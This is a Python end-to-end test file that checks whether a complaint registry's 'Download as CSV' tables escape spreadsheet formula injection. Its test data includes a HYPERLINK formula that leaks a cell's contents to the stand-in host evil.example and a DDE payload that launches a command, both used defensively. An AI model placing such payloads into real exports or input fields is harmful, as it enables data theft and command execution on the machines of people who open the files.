"""The registry's tables, downloaded with their own toolbar button ("Download as CSV", open to
every reader), hold no cell a spreadsheet would run as a formula.

Published cases whose public target and summary start with `=`, `+`, `-`, `@`, a tab or a
carriage return are shown in the registry's list and, the target being complained about twice,
in its repeat-targets table; both are downloaded in Chromium through the table toolbar and every
cell of the files is checked. The tables go through portal/kit/ui.py `data_table`, which applies
the open-data exports' `safe_cell` (services/shared/open_data.py).
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from playwright.sync_api import Locator, Page, expect
from sqlmodel import func, select, update

from services.complaints import intake, workflow
from services.complaints.catalog import IdentityMode
from services.complaints.model import ComplaintCase as C
from services.core import db
from services.core.accounts import Actor
from services.core.clock import utcnow
from services.shared.open_data import FORMULA_TRIGGERS

from .portal_e2e import PortalServer, app_idle
from .test_complaints import t

pytestmark = pytest.mark.e2e

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
# (public target, public summary): each starts with a character a spreadsheet runs
PAYLOADS = [
    (HYPERLINK, HYPERLINK),
    (HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+1", "+1+1 号工厂夜间排放"),
    ("-1+1", "-1+1 号工厂夜间排放"),
    ("\t=1+1", "\t=1+1 号工厂夜间排放"),
    ("\r=1+1", "\r=1+1 号工厂夜间排放"),
    ("@SUM(1+1)", "=1+1 号工厂夜间排放"),
]
# A form's tab and carriage return are trimmed before publication; what remains is one of these.
PUBLISHED_STARTS = tuple(sorted({p.lstrip("\t\r")[:1] for pair in PAYLOADS for p in pair}))


def _publish(portal: PortalServer, target: str, summary: str) -> str:
    report = intake.Report(
        types=["air.odour"], district="520103", location="云岩区北京路", target_name=target,
        observed_on=workflow.today() - timedelta(days=1), ongoing=True,
        description="夜间排放刺鼻气味，附近居民无法开窗，已经持续两周。",
        identity_mode=IdentityMode.ANONYMOUS,
    )  # fmt: skip
    with db.unit_of_work(portal.engine) as session:
        filed = intake.file_report(session, report)
    account = portal.accounts["handler"]
    handler = Actor(portal.user_id(account.username), account.username, account.display_name,
                    account.grants)  # fmt: skip
    with db.unit_of_work(portal.engine) as session:
        version = session.get(C, filed.case_id).version
        workflow.moderate(session, actor=handler, case_id=filed.case_id, version=version,
                          summary=summary, location="云岩区北京路", target=target,
                          confirmed_no_personal_data=True)  # fmt: skip
    return filed.number


def _rename_top_repeat_target(portal: PortalServer) -> None:
    """The sample data's most complained-about public target becomes HYPERLINK, so it heads the
    repeat-targets table (which lists the 20 largest)."""
    with db.unit_of_work(portal.engine) as session:
        top = session.exec(
            select(C.public_target)
            .where(C.published, C.public_target != "")
            .group_by(C.public_target)
            .order_by(func.count().desc())
        ).first()
        session.exec(
            update(C)
            .where(C.public_target == top)
            .values(public_target=HYPERLINK, updated_at=utcnow())
        )


@pytest.fixture(scope="module")
def published(portal: PortalServer) -> list[str]:
    numbers = [_publish(portal, target, summary) for target, summary in PAYLOADS]
    _rename_top_repeat_target(portal)
    return numbers


def download_table(page: Page, table: Locator) -> list[list[str]]:
    """Press the table toolbar's "Download as CSV" and read the file the browser saves."""
    table.scroll_into_view_if_needed()
    table.hover()
    button = table.get_by_role("button", name="Download as CSV")
    expect(button).to_be_visible()
    with page.expect_download() as download:
        button.click()
    data = download.value.path().read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(data)))


def live_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_TRIGGERS)]


def open_registry(page: Page, portal: PortalServer, lang: str) -> None:
    # Without a native save dialog the table's download falls back to a plain file download.
    page.add_init_script("window.showSaveFilePicker = undefined;")
    page.goto(portal.url(f"/complaints?lang={lang}"))
    expect(page.get_by_role("heading", level=1)).to_have_text(t(lang, "Complaint case registry"))
    app_idle(page)


def test_the_case_list_downloads_without_formulas(
    page: Page, portal: PortalServer, published: list[str]
) -> None:
    open_registry(page, portal, "zh_CN")
    rows = download_table(page, page.get_by_role("tabpanel").get_by_test_id("stDataFrame"))
    cells = [cell for row in rows for cell in row]
    for number in published:  # the cases are in the file, newest first
        assert any(number in cell for cell in cells), f"{number} not in the downloaded list"
    assert not live_cells(rows), f"cells a spreadsheet would run: {live_cells(rows)}"
    assert "'" + HYPERLINK in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells


def test_the_repeat_targets_download_without_formulas(
    page: Page, portal: PortalServer, published: list[str]
) -> None:
    open_registry(page, portal, "en")
    tab = page.get_by_role("tab", name=t("en", "Statistics"), exact=True)
    tab.click()
    expect(tab).to_have_attribute("aria-selected", "true")
    app_idle(page)
    panel = page.get_by_role("tabpanel").filter(
        has_text=t("en", "Enterprises and sites complained about more than once")
    )
    rows = download_table(page, panel.get_by_test_id("stDataFrame").last)
    assert not live_cells(rows), f"cells a spreadsheet would run: {live_cells(rows)}"
    assert "'" + HYPERLINK in [cell for row in rows for cell in row]


def test_the_payloads_reach_the_public_plane_as_typed(published: list[str]) -> None:
    """Every payload is published starting with a formula character (the test data is real)."""
    assert set(PUBLISHED_STARTS) <= set(FORMULA_TRIGGERS)
    assert len(published) == len(PAYLOADS)
